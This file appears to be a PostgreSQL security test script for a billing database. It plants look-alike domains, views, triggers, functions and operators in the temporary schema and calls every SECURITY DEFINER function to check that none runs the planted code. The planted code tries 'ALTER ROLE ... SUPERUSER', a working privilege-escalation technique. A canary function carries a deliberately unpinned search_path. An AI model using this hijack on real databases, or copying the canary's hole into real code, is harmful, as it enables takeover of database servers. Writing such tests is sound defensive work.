-- Attack 1: the caller's temporary schema against every SECURITY DEFINER
-- function.
--
-- PostgreSQL searches the session's temporary schema for relations and
-- types before anything else unless search_path names pg_temp, and any role
-- may create objects there.  A SECURITY DEFINER function that names a type
-- (text, date, amount, ...) or a table (account, invoice, ...) without
-- pinning pg_temp last would find the caller's objects, and their code
-- (a domain's CHECK, a view's expressions, a trigger) would run as the
-- function's owner, a superuser.
--
-- Each attack role logs in, plants (atk.plant) domains named like every
-- type the bodies use, a view named like every billing table and view
-- (reading it, or writing it through its INSTEAD OF trigger, runs the
-- attacker's code), a sequence named like every billing sequence, and
-- functions and operators named like billing's and pg_catalog's common
-- ones; the attacker's code counts its runs in temporary sequences (which a
-- rollback does not undo), records who it ran as, and tries
-- ALTER ROLE <attacker> SUPERUSER.  Then, with search_path = pg_temp,
-- billing, public, it calls every SECURITY DEFINER function its role may
-- call with plausible arguments for its own tenant (calls that succeed
-- commit: this runs in a copy of the database).  The same calls run in a
-- second copy without the planted objects.
--
-- An attack passes when the attacker's code never ran (as the owner or as
-- the attacker), the call ended exactly as it did without the objects, and
-- no attack role is a superuser afterwards.  A canary, a SECURITY DEFINER
-- function of this file whose search_path leaves pg_temp out, must be
-- caught (its caller does become superuser): that proves the planted
-- objects work.
\set ON_ERROR_STOP 1

CREATE FUNCTION atk.plant() RETURNS integer
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $plant$
DECLARE
    r record;
    n integer := 0;
    body text;
BEGIN
    CREATE SEQUENCE pg_temp.atk_hits_owner;
    CREATE SEQUENCE pg_temp.atk_hits_self;
    CREATE TABLE pg_temp.atk_marker (ran_as name, session_role name, what text);
    -- the attacker's code: names everything with its schema
    CREATE FUNCTION pg_temp.atk_hit(what pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS $hit$
    BEGIN
        IF current_user OPERATOR(pg_catalog.<>) session_user THEN
            PERFORM pg_catalog.nextval('pg_temp.atk_hits_owner');
            RAISE WARNING 'attacker code (%) runs as %', what, current_user;
            BEGIN
                EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', session_user);
            EXCEPTION WHEN OTHERS THEN
                NULL;
            END;
        ELSE
            PERFORM pg_catalog.nextval('pg_temp.atk_hits_self');
        END IF;
        INSERT INTO pg_temp.atk_marker VALUES (current_user, session_user, what);
        RETURN true;
    END $hit$;
    CREATE FUNCTION pg_temp.atk_trg() RETURNS trigger LANGUAGE plpgsql AS $trg$
    BEGIN
        PERFORM pg_temp.atk_hit('trigger on pg_temp.' OPERATOR(pg_catalog.||) TG_TABLE_NAME);
        RETURN NEW;
    END $trg$;

    -- Domains named like the types the bodies name: pg_catalog's (the
    -- keyword ones too, quoted) and billing's.
    FOR r IN SELECT x.name, x.base FROM (
                 SELECT u.name, pg_catalog.to_regtype(u.name) AS base
                 FROM pg_catalog.unnest(ARRAY['text', 'date', 'numeric', 'bigint', 'int4', 'int8', 'integer', 'int',
                                              'smallint', 'jsonb', 'json', 'bool', 'boolean', 'timestamptz',
                                              'timestamp', 'interval', 'name', 'varchar', 'regclass', 'oid',
                                              'bytea', 'uuid', 'char', 'inet']) u(name)
                 UNION ALL
                 SELECT y.typname::text, y.oid::regtype FROM pg_catalog.pg_type y
                 WHERE y.typnamespace = 'billing'::regnamespace AND y.typtype IN ('b', 'd', 'e')
                   AND y.typcategory <> 'A'
                 UNION ALL
                 SELECT c.relname::text, c.reltype::regtype FROM pg_catalog.pg_class c
                 WHERE c.relnamespace = 'billing'::regnamespace AND c.relkind = 'c') x LOOP
        EXECUTE pg_catalog.format('CREATE DOMAIN pg_temp.%I AS %s CHECK (pg_temp.atk_hit(%L) OR VALUE IS NULL)',
                                  r.name, atk.qtype(r.base), 'domain pg_temp.' || r.name);
        n := n + 1;
    END LOOP;

    -- A view named like every billing table and view: reading it runs the
    -- attacker's code, and so does writing it (INSTEAD OF triggers).
    FOR r IN SELECT c.relname FROM pg_catalog.pg_class c
             WHERE c.relnamespace = 'billing'::regnamespace AND c.relkind IN ('r', 'v', 'p') LOOP
        EXECUTE pg_catalog.format('CREATE VIEW pg_temp.%I AS SELECT (NULL::billing.%I).* WHERE NOT pg_temp.atk_hit(%L)',
                                  r.relname, r.relname, 'view pg_temp.' || r.relname);
        EXECUTE pg_catalog.format('CREATE TRIGGER atk INSTEAD OF INSERT OR UPDATE OR DELETE ON pg_temp.%I '
                                  'FOR EACH ROW EXECUTE FUNCTION pg_temp.atk_trg()', r.relname);
        n := n + 1;
    END LOOP;
    -- and a sequence named like every billing sequence, far from its values
    FOR r IN SELECT c.relname FROM pg_catalog.pg_class c
             WHERE c.relnamespace = 'billing'::regnamespace AND c.relkind = 'S' LOOP
        EXECUTE pg_catalog.format('CREATE SEQUENCE pg_temp.%I START 900000001', r.relname);
        n := n + 1;
    END LOOP;

    -- Functions named like billing's (same arguments) and like pg_catalog
    -- functions the bodies call, and operators like billing's and the
    -- common built-in ones.  PostgreSQL never looks up functions or
    -- operators in pg_temp without a schema name: these must never run.
    FOR r IN SELECT p.oid, p.proname, p.prokind, p.proretset, p.proargmodes,
                    pg_catalog.pg_get_function_identity_arguments(p.oid) AS args,
                    pg_catalog.pg_get_function_result(p.oid) AS result
             FROM pg_catalog.pg_proc p
             WHERE p.pronamespace = 'billing'::regnamespace AND p.prokind IN ('f', 'p')
               AND NOT EXISTS (SELECT FROM pg_catalog.unnest(p.proargtypes::oid[] || p.prorettype) t(oid)
                               JOIN pg_catalog.pg_type y ON y.oid = t.oid
                               WHERE y.typtype = 'p' AND y.oid <> 'void'::regtype)
               AND NOT EXISTS (SELECT FROM pg_catalog.pg_proc q WHERE q.pronamespace = pg_my_temp_schema()
                               AND q.proname = p.proname
                               AND pg_catalog.pg_get_function_identity_arguments(q.oid)
                                   = pg_catalog.pg_get_function_identity_arguments(p.oid)) LOOP
        body := CASE WHEN r.prokind = 'p' OR r.proretset OR r.proargmodes IS NOT NULL OR r.result = 'void'
                     THEN 'RETURN;' ELSE 'RETURN NULL;' END;
        EXECUTE pg_catalog.format('CREATE %s pg_temp.%I(%s) %s LANGUAGE plpgsql AS %L',
                                  CASE WHEN r.prokind = 'p' THEN 'PROCEDURE' ELSE 'FUNCTION' END, r.proname, r.args,
                                  CASE WHEN r.prokind = 'p' THEN '' ELSE 'RETURNS ' || r.result END,
                                  pg_catalog.format('BEGIN PERFORM pg_temp.atk_hit(%L); %s END',
                                                    'function pg_temp.' || r.proname, body));
        n := n + 1;
    END LOOP;
    CREATE FUNCTION pg_temp.format(pg_catalog.text, pg_catalog.text) RETURNS pg_catalog.text LANGUAGE plpgsql AS
        $f$BEGIN PERFORM pg_temp.atk_hit('function pg_temp.format'); RETURN $1; END$f$;
    CREATE FUNCTION pg_temp.lower(pg_catalog.text) RETURNS pg_catalog.text LANGUAGE plpgsql AS
        $f$BEGIN PERFORM pg_temp.atk_hit('function pg_temp.lower'); RETURN $1; END$f$;
    CREATE FUNCTION pg_temp.jsonb_typeof(pg_catalog.jsonb) RETURNS pg_catalog.text LANGUAGE plpgsql AS
        $f$BEGIN PERFORM pg_temp.atk_hit('function pg_temp.jsonb_typeof'); RETURN 'array'; END$f$;
    CREATE FUNCTION pg_temp.current_setting(pg_catalog.text) RETURNS pg_catalog.text LANGUAGE plpgsql AS
        $f$BEGIN PERFORM pg_temp.atk_hit('function pg_temp.current_setting'); RETURN 'none'; END$f$;
    FOR r IN SELECT o.oprname, o.oprleft, o.oprright, o.oprresult, pg_catalog.row_number() OVER () AS i
             FROM pg_catalog.pg_operator o
             WHERE (o.oprnamespace = 'billing'::regnamespace
                    OR (o.oprname IN ('=', '<>', '<', '>', '+', '-', '||', '->>')
                        AND o.oprleft IN ('bigint'::regtype, 'integer'::regtype, 'text'::regtype, 'date'::regtype,
                                          'numeric'::regtype, 'jsonb'::regtype)
                        AND o.oprright = o.oprleft OR (o.oprleft = 'jsonb'::regtype AND o.oprright = 'text'::regtype)))
               AND o.oprleft <> 0 LOOP
        EXECUTE pg_catalog.format('CREATE FUNCTION pg_temp.atk_op_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L',
                                  r.i, atk.qtype(r.oprleft), atk.qtype(r.oprright), atk.qtype(r.oprresult),
                                  pg_catalog.format('BEGIN PERFORM pg_temp.atk_hit(%L); RETURN NULL; END',
                                                    'operator pg_temp.' || r.oprname));
        EXECUTE pg_catalog.format('CREATE OPERATOR pg_temp.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = pg_temp.atk_op_%s)',
                                  r.oprname, atk.qtype(r.oprleft), atk.qtype(r.oprright), r.i);
        n := n + 1;
    END LOOP;
    RETURN n;
END $plant$;

-- The attacker's code's runs so far (0 before anything was planted).
CREATE FUNCTION atk.hits(OUT owner bigint, OUT self bigint)
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    owner := 0; self := 0;
    IF pg_catalog.to_regclass('pg_temp.atk_hits_owner') IS NOT NULL THEN
        EXECUTE 'SELECT CASE WHEN is_called THEN last_value ELSE 0 END FROM pg_temp.atk_hits_owner' INTO owner;
        EXECUTE 'SELECT CASE WHEN is_called THEN last_value ELSE 0 END FROM pg_temp.atk_hits_self' INTO self;
    END IF;
END $$;
-- ... and what it recorded (what ran, as whom), consumed
CREATE FUNCTION atk.marks() RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    m text;
BEGIN
    IF pg_catalog.to_regclass('pg_temp.atk_marker') IS NULL THEN
        RETURN NULL;
    END IF;
    EXECUTE 'SELECT pg_catalog.string_agg(DISTINCT what || '' as '' || ran_as, '', '') FROM pg_temp.atk_marker' INTO m;
    EXECUTE 'DELETE FROM pg_temp.atk_marker';
    RETURN m;
END $$;

CREATE TABLE atk.t1_result (phase text, who text, fn text, stmt text, result text, owner_hits bigint,
                            self_hits bigint, marks text);
GRANT SELECT, INSERT, UPDATE ON atk.t1_result TO PUBLIC;

-- Every function of the kinds, as the session's role, for tenant A, with
-- the attacker's search_path; refused_only: only those atk_writer was
-- refused (42501) in this phase (atk_admin, bound to every entity, calls
-- the shared catalog's functions).
CREATE FUNCTION atk.t1_run(phase text, kinds text[], refused_only boolean DEFAULT false) RETURNS bigint
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    f regprocedure;
    stmt text;
    res text;
    h0 record;
    h1 record;
    n bigint := 0;
BEGIN
    FOR f IN SELECT r.fn FROM atk.routine r
             WHERE r.kind = ANY (kinds) AND r.prokind = 'f' AND r.prosecdef
               AND (NOT refused_only OR EXISTS (SELECT FROM atk.t1_result x WHERE x.phase = t1_run.phase
                                                AND x.who = 'atk_writer' AND x.fn = r.fn::text
                                                AND x.result LIKE '42501%'))
             ORDER BY r.fn::text LOOP
        stmt := atk.call_sql(f, 'A');
        IF stmt IS NULL THEN
            INSERT INTO atk.t1_result VALUES (phase, session_user, f::text, NULL, 'no plausible call', 0, 0, NULL);
            CONTINUE;
        END IF;
        PERFORM atk.marks();
        h0 := atk.hits();
        res := atk.try(stmt, 'pg_temp, billing, public');
        h1 := atk.hits();
        INSERT INTO atk.t1_result VALUES (phase, session_user, f::text, stmt, res, h1.owner - h0.owner,
                                          h1.self - h0.self, atk.marks());
        n := n + 1;
    END LOOP;
    RETURN n;
END $$;

-- A procedure called at the top level (it commits): before and after.
CREATE FUNCTION atk.t1_before(phase text, fn text, stmt text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    h record := atk.hits();
BEGIN
    PERFORM atk.marks();
    INSERT INTO atk.t1_result VALUES (phase, session_user, fn, stmt, 'did not return', h.owner, h.self, NULL);
END $$;
CREATE FUNCTION atk.t1_after(phase text, fn text, failed boolean, sqlstate text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    h record := atk.hits();
BEGIN
    UPDATE atk.t1_result r
    SET result = CASE WHEN failed THEN sqlstate ELSE '00000' END,
        owner_hits = h.owner - r.owner_hits, self_hits = h.self - r.self_hits, marks = atk.marks()
    WHERE r.phase = t1_after.phase AND r.who = session_user AND r.fn = t1_after.fn AND r.result = 'did not return';
END $$;

-- The canary: SECURITY DEFINER, owned by the superuser, with the
-- search_path billing's functions had before pg_temp was pinned last.
CREATE FUNCTION atk.canary(acct bigint) RETURNS text
LANGUAGE plpgsql SECURITY DEFINER SET search_path = billing, pg_catalog AS $$
DECLARE
    v text;
BEGIN
    SELECT a.name INTO v FROM account a WHERE a.account_id = acct;
    RETURN v;
END $$;

-- Two copies of the database: one where the calls run plainly, one where
-- they run after the attackers planted their objects.
\c postgres :super
DROP DATABASE IF EXISTS security_attack_base;
DROP DATABASE IF EXISTS security_attack_hijack;
CREATE DATABASE security_attack_base TEMPLATE :db;
CREATE DATABASE security_attack_hijack TEMPLATE :db;

\set phase base
\set phase_db security_attack_base
\set plant false
\ir temp_schema_phase.psql
\set phase hijack
\set phase_db security_attack_hijack
\set plant true
\ir temp_schema_phase.psql

-- The canary, in the planted copy: its caller becomes superuser.
\c security_attack_hijack atk_canary
SELECT atk.plant() > 0 AS planted;
SELECT atk.canary(atk.id('A', 'account')) AS canary_account;
\c security_attack_hijack :super
SELECT * FROM atk.report('temp_schema:canary_without_pg_temp_is_caught',
    (SELECT rolsuper FROM pg_roles WHERE rolname = 'atk_canary'),
    'the canary (search_path = billing, pg_catalog) did not run the planted code as its owner: '
    'the planted objects would not catch an unpinned function');
ALTER ROLE atk_canary NOSUPERUSER;

-- The verdicts.
\c security_attack_base :super
\copy (SELECT * FROM atk.t1_result) TO 'log/security/temp_schema_base.tsv'
\c security_attack_hijack :super
CREATE TEMP TABLE base_result (LIKE atk.t1_result);
\copy base_result FROM 'log/security/temp_schema_base.tsv'
SELECT x.* FROM (
    SELECT h.who, h.fn, b.result AS plain, h.result AS planted, h.owner_hits, h.self_hits, h.marks, h.stmt
    FROM atk.t1_result h LEFT JOIN base_result b USING (who, fn)
    WHERE h.phase = 'hijack' ORDER BY h.who, h.fn) r,
LATERAL atk.report(format('temp_schema:%s:%s', r.who, r.fn),
                   r.stmt IS NOT NULL AND r.owner_hits = 0 AND r.self_hits = 0 AND r.planted IS NOT DISTINCT FROM r.plain,
                   format('%s%sran the attacker''s code %s times as the owner, %s as the caller (%s); '
                          'ended in %s, without the planted objects in %s',
                          coalesce(r.stmt, 'no plausible call (add a value to atk.arg_value)'), E'\n',
                          r.owner_hits, r.self_hits, coalesce(r.marks, 'nothing recorded'), r.planted, r.plain)) x;
-- every SECURITY DEFINER function was attacked, and by a role that may run it
SELECT * FROM atk.report('temp_schema:every_security_definer_function_called',
    NOT EXISTS (SELECT FROM atk.routine r WHERE r.prosecdef
                AND NOT EXISTS (SELECT FROM atk.t1_result h WHERE h.phase = 'hijack' AND h.fn = r.fn::text
                                AND h.result NOT LIKE '42501 permission denied%' AND h.stmt IS NOT NULL)),
    'not attacked: ' || (SELECT string_agg(r.fn::text, ', ') FROM atk.routine r WHERE r.prosecdef
                         AND NOT EXISTS (SELECT FROM atk.t1_result h WHERE h.phase = 'hijack' AND h.fn = r.fn::text
                                         AND h.result NOT LIKE '42501 permission denied%' AND h.stmt IS NOT NULL)));
SELECT * FROM atk.report('temp_schema:no_attack_role_is_superuser',
    NOT EXISTS (SELECT FROM pg_roles WHERE rolname LIKE 'atk\_%' AND rolsuper),
    'superusers now: ' || (SELECT string_agg(rolname, ', ') FROM pg_roles WHERE rolname LIKE 'atk\_%' AND rolsuper));
-- an attacker that did become superuser is one no more: the other attacks
-- judge the roles as they were made
SELECT count(*) AS demoted FROM (SELECT format('ALTER ROLE %I NOSUPERUSER', rolname) AS stmt
                                 FROM pg_roles WHERE rolname LIKE 'atk\_%' AND rolsuper) s, LATERAL atk.try(s.stmt);
\c postgres :super
DROP DATABASE security_attack_base;
DROP DATABASE security_attack_hijack;
